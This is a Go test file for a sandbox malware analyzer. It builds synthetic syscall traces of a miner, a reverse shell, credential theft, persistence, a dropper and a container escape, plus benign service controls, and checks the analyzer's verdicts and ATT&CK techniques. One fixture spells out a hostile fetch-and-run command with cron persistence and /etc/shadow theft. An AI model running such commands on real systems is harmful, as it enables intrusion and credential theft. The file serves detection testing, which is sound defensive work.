package analyzer

import (
	"fmt"
	"testing"

	"github.com/sandscan/sandscan/trace"
)

// Scenario runs imitate what the sandbox records for the project's sample
// images (testdata/behaviours), for the evaluation corpus's benign
// controls and for some of its atomics, with the loader and PATH noise a
// real trace carries. They pin verdicts, not single rules.

// loader adds what a dynamically linked program opens at start.
func (b *rb) loader(pid int32) *rb {
	b.openFail(pid, "/etc/ld.so.preload", rdonly, 2)
	b.open(pid, "/etc/ld.so.cache", rdonly|0x80000)
	b.open(pid, "/lib/x86_64-linux-gnu/libc.so.6", rdonly|0x80000)
	return b
}

// pathSearch adds the failed execve attempts a shell makes along PATH.
func (b *rb) pathSearch(pid int32, name string) *rb {
	for _, dir := range []string{"/usr/local/sbin", "/usr/local/bin", "/usr/sbin"} {
		b.add(trace.Event{Kind: trace.KindExecve, PID: pid, Path: dir + "/" + name, Argv: []string{name}, Errno: errENOENT, Ret: -2})
	}
	return b
}

func (b *rb) exit(pid int32, code int64) *rb {
	b.add(trace.Event{Kind: trace.KindExit, PID: pid, Ret: code})
	return b
}

func (b *rb) bind(pid int32, ip string, port uint16) *rb {
	b.add(trace.Event{Kind: trace.KindBind, PID: pid, FD: 3, Addr: &trace.SockAddr{Family: trace.FamilyInet, IP: ip, Port: port}})
	return b
}

func (b *rb) threads(pid int32, n int) *rb {
	for i := 0; i < n; i++ {
		b.add(trace.Event{Kind: trace.KindClone, PID: pid, Child: pid + int32(1000+i), Thread: true})
	}
	return b
}

// goResolveFail is Go's resolver failing without a network.
func (b *rb) goResolveFail(pid int32) *rb {
	b.open(pid, "/etc/resolv.conf", rdonly)
	b.open(pid, "/etc/hosts", rdonly)
	b.connect(pid, "10.99.0.1", 53, errENETUNREACH)
	return b
}

type scenario struct {
	name  string
	run   *trace.Run
	want  Verdict
	techs []string // must be reported
	// clean controls must report no technique at all.
	noTechniques bool
}

func sampleScenarios() []scenario {
	var out []scenario
	add := func(s scenario) { out = append(out, s) }

	add(scenario{name: "miner without network", want: VerdictMalicious, techs: []string{"T1496"},
		run: newRun("/usr/local/bin/miner").threads(1, 4).goResolveFail(1).connect(1, "203.0.113.5", 3333, errENETUNREACH).
			resources(4, 3.6, false).exit(1, 0).done()})
	add(scenario{name: "miner with sinkhole", want: VerdictMalicious, techs: []string{"T1496", "T1496.001"},
		run: newRun("/usr/local/bin/miner").threads(1, 4).dns("pool.minexmr.example", "NOERROR").connect(1, "10.99.0.1", 3333, 0).
			conn(trace.Conn{Proto: "tcp", DstIP: "10.99.0.1", DstPort: 3333, Host: "pool.minexmr.example", App: "stratum", BytesOut: 300, PID: 1,
				Stratum: &trace.StratumInfo{Methods: []string{"login"}, Wallet: "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge", Agent: "XMRig/6.21.0"}}).
			resources(4, 3.6, false).done()})
	add(scenario{name: "revshell with sinkhole", want: VerdictMalicious, techs: []string{"T1059.004"},
		run: newRun("/usr/local/bin/revshell").dns("c2.example", "NOERROR").connect(1, "10.99.0.1", 4444, 0).
			execIn(1, 0, "/bin/busybox", "/bin/sh", "-i").conn(trace.Conn{Proto: "tcp", DstIP: "10.99.0.1", DstPort: 4444, App: "shell", PID: 1, Shell: &trace.ShellInfo{Sent: "id\n", Received: "uid=0(root)"}}).done()})
	add(scenario{name: "credtheft", want: VerdictMalicious, techs: []string{"T1003.008", "T1552.001", "T1552.004", "T1560.002"},
		run: func() *trace.Run {
			b := newRun("/usr/local/bin/credtheft")
			for _, p := range []string{"/etc/shadow", "/root/.ssh/id_rsa", "/root/.aws/credentials", "/root/.docker/config.json", "/root/.kube/config"} {
				b.open(1, p, rdonly)
			}
			return b.open(1, "/tmp/loot.tar.gz", wr).goResolveFail(1).connect(1, "203.0.113.9", 80, errENETUNREACH).done()
		}()})
	add(scenario{name: "persistence", want: VerdictMalicious, techs: []string{"T1053.003", "T1098.004", "T1574.006", "T1546.004"},
		run: newRun("/usr/local/bin/persistence").open(1, "/etc/cron.d/sandscan", wr).open(1, "/root/.ssh/authorized_keys", appendF).
			open(1, "/etc/ld.so.preload", wr).open(1, "/root/.bashrc", appendF).
			file("/etc/cron.d/sandscan", trace.FileCreated, 0644).file("/etc/ld.so.preload", trace.FileCreated, 0644).done()})
	add(scenario{name: "dropper", want: VerdictMalicious, techs: []string{"T1027.009", "T1070.004"},
		run: newRun("/usr/local/bin/dropper").goResolveFail(1).open(1, "/tmp/payload", wr).syscall(1, "fchmodat", 0, 0xffffff9c, 0, 0755).
			spawn(1, 7, "/tmp/payload", "/tmp/payload", "payload").exit(7, 0).syscall(1, "unlinkat", 0, 0xffffff9c, 0, 0).
			file("/var/tmp/unrelated", trace.FileCreated, 0644).done()})
	add(scenario{name: "escape", want: VerdictMalicious, techs: []string{"T1611", "T1055.008", "T1547.006"},
		run: newRun("/usr/local/bin/escape").connect(1, "/var/run/docker.sock", 0, errENOENT).syscall(1, "mount", 1, 0, 0, 0, 0, 0).
			syscall(1, "unshare", 1, cloneNewNS|cloneNewUser).syscall(1, "ptrace", 1, 16, 1).syscall(1, "init_module", 1, 0, 4, 0).
			openFail(1, "/proc/sys/kernel/core_pattern", wr, 13).open(1, "/sys/fs/cgroup/x/notify_on_release", wr).open(1, "/sys/fs/cgroup/release_agent", wr).done()})
	add(scenario{name: "recon", want: VerdictSuspicious, techs: []string{"T1046", "T1057", "T1049"},
		run: func() *trace.Run {
			b := newRun("/usr/local/bin/recon").open(1, "/etc/passwd", rdonly).open(1, "/proc/net/tcp", rdonly)
			for _, p := range []string{"1", "3", "4", "5", "6", "8"} {
				b.open(1, "/proc/"+p+"/cmdline", rdonly)
			}
			b.socket(1, 16, 3, 0, 0)
			for _, port := range []uint16{22, 80, 443, 3306, 5432, 6379} {
				b.connect(1, "127.0.0.1", port, errECONNREFUSED)
			}
			return b.done()
		}()})
	add(scenario{name: "forkbomb", want: VerdictMalicious, techs: []string{"T1499"},
		run: func() *trace.Run {
			b := newRun("/usr/local/bin/forkbomb")
			for i := 0; i < 300; i++ {
				b.spawn(1, int32(100+i), "/usr/local/bin/forkbomb", "forkbomb")
			}
			b.run.Resources.PidsPeak = 256
			return b.resources(30, 20, true).done()
		}()})
	add(scenario{name: "membomb", want: VerdictSuspicious, techs: []string{"T1499"},
		run: func() *trace.Run {
			b := newRun("/usr/local/bin/membomb").resources(3, 2, false)
			b.run.Exit = trace.Exit{Code: 137, Reason: trace.EndExited, OOM: true}
			return b.done()
		}()})
	add(scenario{name: "outputflood", want: VerdictSuspicious, techs: []string{"T1499"},
		run: func() *trace.Run {
			b := newRun("/usr/local/bin/outputflood").resources(30, 25, true)
			b.run.Resources.OutputBytes = 900 << 20
			return b.done()
		}()})
	add(scenario{name: "sleeper", want: VerdictClean, noTechniques: true,
		run: newRun("/usr/local/bin/sleeper").threads(1, 3).resources(30, 0.05, true).done()})
	add(scenario{name: "busybox-script without network", want: VerdictMalicious, techs: []string{"T1053.003", "T1003.008"},
		run: sh("wget -O /tmp/p.sh http://dl.example/p.sh && sh /tmp/p.sh; (crontab -l; echo '* * * * * /tmp/p.sh') | crontab -; cat /etc/shadow > /tmp/s; echo done > /tmp/out").
			spawn(1, 10, "/bin/busybox", "wget", "-O", "/tmp/p.sh", "http://dl.example/p.sh").open(10, "/etc/resolv.conf", rdonly).connect(10, "10.99.0.1", 53, errENETUNREACH).exit(10, 1).
			spawn(1, 11, "/bin/busybox", "sh", "-c", "crontab -l; echo '* * * * * /tmp/p.sh'").spawn(11, 12, "/bin/busybox", "crontab", "-l").
			spawn(1, 13, "/bin/busybox", "crontab", "-").open(13, "/var/spool/cron/crontabs/root.new", wr).
			add2(func(b *rb) { b.add(trace.Event{Kind: trace.KindClone, PID: 1, Child: 14}) }).open(14, "/tmp/s", wr).
			execIn(14, 1, "/bin/busybox", "cat", "/etc/shadow").open(14, "/etc/shadow", rdonly).open(1, "/tmp/out", wr).done()})
	add(scenario{name: "benign-web", want: VerdictClean, noTechniques: true,
		run: newRun("/usr/local/bin/benign-web").threads(1, 5).bind(1, "127.0.0.1", 8080).
			spawn(1, 20, "/bin/busybox", "wget", "-q", "-O", "-", "http://127.0.0.1:8080/").connect(20, "127.0.0.1", 8080, 0).exit(20, 0).
			add2(func(b *rb) {
				b.add(trace.Event{Kind: trace.KindAccept, PID: 1, FD: 4, Addr: &trace.SockAddr{Family: trace.FamilyInet, IP: "127.0.0.1", Port: 40000}})
			}).exit(1, 0).resources(3, 0.2, false).done()})
	add(scenario{name: "benign-batch", want: VerdictClean, noTechniques: true,
		run: newRun("/usr/local/bin/benign-batch").threads(1, 2).open(1, "/var/tmp/result.txt", wr).
			file("/var/tmp/result.txt", trace.FileCreated, 0644).resources(5, 4.8, false).exit(1, 0).done()})
	return out
}

// controlScenarios imitate the corpus's benign controls (shared/eval/benign.json).
func controlScenarios() []scenario {
	var out []scenario
	add := func(name string, run *trace.Run) {
		out = append(out, scenario{name: name, run: run, want: VerdictClean, noTechniques: true})
	}
	add("B01 nginx", sh("nginx -g 'daemon off;' & sleep 2; curl -s -o /dev/null http://127.0.0.1/; nginx -s quit; sleep 1").
		spawn(1, 10, "/usr/sbin/nginx", "nginx", "-g", "daemon off;").loader(10).open(10, "/etc/passwd", rdonly).open(10, "/etc/group", rdonly).
		bind(10, "0.0.0.0", 80).bind(10, "::", 80).open(10, "/var/log/nginx/access.log", appendF).open(10, "/var/log/nginx/error.log", appendF).open(10, "/run/nginx.pid", wr).
		spawn(10, 11, "/usr/sbin/nginx", "nginx").add2(func(b *rb) {
		b.add(trace.Event{Kind: trace.KindSetID, PID: 11, Syscall: "setgid", IDs: []uint32{33}})
		b.add(trace.Event{Kind: trace.KindSetID, PID: 11, Syscall: "setuid", IDs: []uint32{33}})
	}).spawn(1, 12, "/bin/sleep", "sleep", "2").spawn(1, 13, "/usr/bin/curl", "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "http://127.0.0.1/").
		connect(13, "127.0.0.1", 80, 0).spawn(1, 14, "/usr/sbin/nginx", "nginx", "-s", "quit").syscall(14, "kill", 0, 10, 3).done())
	add("B02 redis", sh("redis-server --port 6379 --bind 127.0.0.1 & sleep 2; redis-cli -p 6379 ping").
		spawn(1, 10, "/usr/bin/redis-server", "redis-server", "--port", "6379", "--bind", "127.0.0.1").open(10, "/proc/sys/vm/overcommit_memory", rdonly).
		open(10, "/sys/kernel/mm/transparent_hugepage/enabled", rdonly).bind(10, "127.0.0.1", 6379).
		spawn(1, 11, "/usr/bin/redis-cli", "redis-cli", "-p", "6379", "ping").connect(11, "127.0.0.1", 6379, 0).done())
	add("B03 http.server", sh("mkdir -p /srv/www && echo hello > /srv/www/index.html && cd /srv/www && python3 -m http.server 8000 --bind 127.0.0.1").
		spawn(1, 10, "/bin/mkdir", "mkdir", "-p", "/srv/www").open(1, "/srv/www/index.html", wr).
		spawn(1, 11, "/usr/bin/python3.11", "python3", "-m", "http.server", "8000", "--bind", "127.0.0.1").bind(11, "127.0.0.1", 8000).
		spawn(1, 12, "/usr/bin/python3.11", "python3", "-c", "import urllib.request;print(urllib.request.urlopen('http://127.0.0.1:8000/').read())").
		connect(12, "127.0.0.1", 8000, 0).syscall(1, "kill", 0, 11, 15).done())
	add("B04 postgres", sh("install -d -o postgres -g postgres /tmp/pgdata && su postgres -s /bin/sh -c '...'").
		spawn(1, 10, "/usr/bin/install", "install", "-d", "-o", "postgres", "-g", "postgres", "/tmp/pgdata").
		spawn(1, 11, "/bin/su", "su", "postgres", "-s", "/bin/sh", "-c", "initdb -D /tmp/pgdata && pg_ctl start && psql -h 127.0.0.1 -Atc 'select 42'").
		open(11, "/etc/pam.d/su", rdonly).open(11, "/etc/shadow", rdonly).open(11, "/etc/passwd", rdonly).
		add2(func(b *rb) { b.add(trace.Event{Kind: trace.KindSetID, PID: 11, Syscall: "setuid", IDs: []uint32{104}}) }).
		spawn(11, 12, "/bin/sh", "sh", "-c", "initdb -D /tmp/pgdata && pg_ctl start && psql").
		spawn(12, 13, "/usr/lib/postgresql/15/bin/initdb", "initdb", "-D", "/tmp/pgdata", "-A", "trust").syscall(13, "chmod", 0, 0, 0700).
		spawn(12, 14, "/usr/lib/postgresql/15/bin/pg_ctl", "pg_ctl", "-D", "/tmp/pgdata", "-l", "/tmp/pg.log", "-w", "start").
		spawn(14, 15, "/usr/lib/postgresql/15/bin/postgres", "postgres", "-D", "/tmp/pgdata").open(15, "/tmp/.s.PGSQL.5432.lock", wr).bind(15, "127.0.0.1", 5432).
		spawn(12, 16, "/usr/bin/psql", "psql", "-h", "127.0.0.1", "-U", "postgres", "-Atc", "select 42").connect(16, "127.0.0.1", 5432, 0).done())
	add("B05 toolbox versions", func() *trace.Run {
		b := sh("curl --version | head -1; ...; nmap --version | head -1; dig -v; tcpdump --version; nc -h")
		pid := int32(10)
		for _, argv := range [][]string{{"curl", "--version"}, {"wget", "--version"}, {"openssl", "version"}, {"gpg", "--version"}, {"python3", "--version"},
			{"perl", "-e", `print "perl $]\n"`}, {"nmap", "--version"}, {"dig", "-v"}, {"rsync", "--version"}, {"zip", "-v"}, {"tcpdump", "--version"}, {"nc", "-h"}} {
			b.pathSearch(1, argv[0]).spawn(1, pid, "/usr/bin/"+argv[0], argv...)
			b.spawn(1, pid+1, "/usr/bin/head", "head", "-1")
			pid += 2
		}
		return b.done()
	}())
	add("B06 static go server", sh("/usr/local/bin/hello-server & sleep 1; wget -q -O - http://127.0.0.1:8080/healthz; kill $!").
		spawn(1, 10, "/usr/local/bin/hello-server", "/usr/local/bin/hello-server").threads(10, 4).bind(10, "127.0.0.1", 8080).
		spawn(1, 11, "/bin/busybox", "wget", "-q", "-O", "-", "http://127.0.0.1:8080/healthz").connect(11, "127.0.0.1", 8080, 0).syscall(1, "kill", 0, 10, 15).done())
	add("B07 cron", sh("cron -f -L 15 & sleep 3; kill $!").spawn(1, 10, "/usr/sbin/cron", "cron", "-f", "-L", "15").
		open(10, "/etc/crontab", rdonly).open(10, "/etc/cron.d/e2scrub_all", rdonly).open(10, "/var/spool/cron/crontabs", rdonly).open(10, "/run/crond.pid", wr).
		spawn(1, 11, "/bin/sleep", "sleep", "3").syscall(1, "kill", 0, 10, 15).done())
	add("B08 sshd keys", sh("mkdir -p /run/sshd && ssh-keygen -A && /usr/sbin/sshd -t && /usr/sbin/sshd -D -p 2222").
		spawn(1, 10, "/bin/mkdir", "mkdir", "-p", "/run/sshd").spawn(1, 11, "/usr/bin/ssh-keygen", "ssh-keygen", "-A").
		open(11, "/etc/ssh/ssh_host_rsa_key", wr).open(11, "/etc/ssh/ssh_host_ed25519_key", wr).
		spawn(1, 12, "/usr/sbin/sshd", "/usr/sbin/sshd", "-t").open(12, "/etc/ssh/ssh_host_rsa_key", rdonly).
		spawn(1, 13, "/usr/sbin/sshd", "/usr/sbin/sshd", "-D", "-p", "2222", "-o", "ListenAddress=127.0.0.1").open(13, "/etc/ssh/ssh_host_ed25519_key", rdonly).bind(13, "127.0.0.1", 2222).
		file("/etc/ssh/ssh_host_rsa_key", trace.FileCreated, 0600).done())
	add("B09 logrotate copytruncate", sh("for i in $(seq 1 2000); do echo line; done > /var/log/app.log; printf '...' > /etc/logrotate.d/app; logrotate -v /etc/logrotate.conf").
		spawn(1, 10, "/usr/bin/seq", "seq", "1", "2000").open(1, "/var/log/app.log", wr).open(1, "/etc/logrotate.d/app", wr).
		spawn(1, 11, "/usr/sbin/logrotate", "logrotate", "-v", "/etc/logrotate.conf").open(11, "/var/log/app.log", rdonly).open(11, "/var/log/app.log.1", wr).
		open(11, "/var/log/app.log", oWronly|oTrunc).spawn(11, 12, "/bin/gzip", "gzip", "-f", "/var/log/app.log.1").open(11, "/var/lib/logrotate/status", wr).
		file("/var/log/app.log", trace.FileCreated, 0644).file("/var/log/app.log.1.gz", trace.FileCreated, 0644).done())
	add("B10 memcached", sh("memcached -u memcache -l 127.0.0.1 -p 11211 & sleep 1; python3 -c ...; kill $!").
		spawn(1, 10, "/usr/bin/memcached", "memcached", "-u", "memcache", "-l", "127.0.0.1", "-p", "11211").open(10, "/etc/passwd", rdonly).
		add2(func(b *rb) {
			b.add(trace.Event{Kind: trace.KindSetID, PID: 10, Syscall: "setgid", IDs: []uint32{107}})
			b.add(trace.Event{Kind: trace.KindSetID, PID: 10, Syscall: "setuid", IDs: []uint32{107}})
		}).bind(10, "127.0.0.1", 11211).
		spawn(1, 11, "/usr/bin/python3.11", "python3", "-c", "import socket;s=socket.create_connection(('127.0.0.1',11211));s.sendall(b'stats\\r\\nquit\\r\\n');print(s.recv(200))").
		connect(11, "127.0.0.1", 11211, 0).done())
	add("B11 venv", sh("python3 -m venv /opt/app && /opt/app/bin/python -c 'import sys, json; print(json.dumps({\"prefix\": sys.prefix}))'").
		spawn(1, 10, "/usr/bin/python3.11", "python3", "-m", "venv", "/opt/app").open(10, "/opt/app/pyvenv.cfg", wr).
		spawn(10, 11, "/opt/app/bin/python3", "/opt/app/bin/python3", "-Im", "ensurepip", "--upgrade", "--default-pip").open(11, "/tmp/tmpab12/pip-23.0.1-py3-none-any.whl", wr).
		spawn(11, 12, "/opt/app/bin/python3", "/opt/app/bin/python3", "-W", "ignore::DeprecationWarning", "-c", "import runpy\nimport sys\nrunpy.run_module(\"pip\", run_name=\"__main__\", alter_sys=True)", "install", "--no-cache-dir", "--no-index").
		add2(func(b *rb) {
			b.add(trace.Event{Kind: trace.KindBind, PID: 12, Addr: &trace.SockAddr{Family: trace.FamilyInet6, IP: "::1", Port: 0}})
		}).open(12, "/opt/app/lib/python3.11/site-packages/distutils-precedence.pth", wr).open(12, "/opt/app/bin/pip", wr).
		spawn(1, 13, "/opt/app/bin/python", "/opt/app/bin/python", "-c", `import sys, json; print(json.dumps({"prefix": sys.prefix}))`).resources(5.1, 4.2, false).done())
	add("B12 self-signed cert", sh("openssl req -x509 -newkey rsa:2048 -nodes -keyout /etc/ssl/private/app.key -out /etc/ssl/certs/app.crt -subj /CN=localhost -days 1 && openssl x509 -in /etc/ssl/certs/app.crt -noout -subject").
		spawn(1, 10, "/usr/bin/openssl", "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "/etc/ssl/private/app.key", "-out", "/etc/ssl/certs/app.crt", "-subj", "/CN=localhost", "-days", "1").
		open(10, "/etc/ssl/private/app.key", wr).open(10, "/etc/ssl/certs/app.crt", wr).
		spawn(1, 11, "/usr/bin/openssl", "openssl", "x509", "-in", "/etc/ssl/certs/app.crt", "-noout", "-subject").open(11, "/etc/ssl/certs/app.crt", rdonly).done())
	add("B13 busybox httpd", sh("mkdir -p /www && echo ok > /www/index.html && busybox httpd -f -p 127.0.0.1:8081 -h /www & wget -q -O - http://127.0.0.1:8081/").
		spawn(1, 10, "/bin/busybox", "mkdir", "-p", "/www").open(1, "/www/index.html", wr).
		spawn(1, 11, "/bin/busybox", "busybox", "httpd", "-f", "-p", "127.0.0.1:8081", "-h", "/www").bind(11, "127.0.0.1", 8081).
		spawn(1, 12, "/bin/busybox", "wget", "-q", "-O", "-", "http://127.0.0.1:8081/").connect(12, "127.0.0.1", 8081, 0).syscall(1, "kill", 0, 11, 15).done())
	add("B14 sqlite", sh("sqlite3 /tmp/app.db \"create table t(...); select count(*) from t;\"").
		spawn(1, 10, "/usr/bin/sqlite3", "sqlite3", "/tmp/app.db", "create table t(id integer primary key, v text); select count(*) from t;").
		open(10, "/tmp/app.db", oRdwr|oCreat).open(10, "/tmp/app.db-journal", oRdwr|oCreat).done())
	add("B15 gzip and tar of web assets", sh("mkdir -p /srv/site/css && ... && find /srv/site -type f \\( -name '*.html' -o -name '*.css' \\) -exec gzip -k9 {} \\; && tar -czf /tmp/site-bundle.tgz -C /srv site && ls -l /tmp/site-bundle.tgz").
		spawn(1, 10, "/bin/mkdir", "mkdir", "-p", "/srv/site/css").open(1, "/srv/site/index.html", wr).
		spawn(1, 11, "/usr/bin/find", "find", "/srv/site", "-type", "f", "(", "-name", "*.html", "-o", "-name", "*.css", ")", "-exec", "gzip", "-k9", "{}", ";").
		spawn(11, 12, "/bin/gzip", "gzip", "-k9", "/srv/site/index.html").open(12, "/srv/site/index.html.gz", wr).
		spawn(1, 13, "/bin/tar", "tar", "-czf", "/tmp/site-bundle.tgz", "-C", "/srv", "site").open(13, "/tmp/site-bundle.tgz", wr).
		spawn(1, 14, "/bin/ls", "ls", "-l", "/tmp/site-bundle.tgz").done())
	return out
}

func TestScenarioVerdicts(t *testing.T) {
	a := New()
	for _, s := range append(sampleScenarios(), controlScenarios()...) {
		t.Run(s.name, func(t *testing.T) {
			rep, err := a.Analyze(s.run)
			if err != nil {
				t.Fatal(err)
			}
			if rep.Verdict != s.want {
				t.Errorf("verdict %s (score %.3f), want %s; %s\n%v", rep.Verdict, rep.Score, s.want, rep.Policy.Reason, summaries(rep.Findings))
			}
			got := map[string]bool{}
			for _, tech := range rep.Techniques {
				got[tech.ID] = true
				if len(tech.Findings) == 0 {
					t.Errorf("technique %s points to no finding", tech.ID)
				}
			}
			for _, id := range s.techs {
				if !got[id] {
					t.Errorf("technique %s not reported; findings %v", id, summaries(rep.Findings))
				}
			}
			if s.noTechniques && len(rep.Techniques) > 0 {
				t.Errorf("control reported techniques: %v", summaries(rep.Findings))
			}
		})
	}
}

var _ = fmt.Sprint
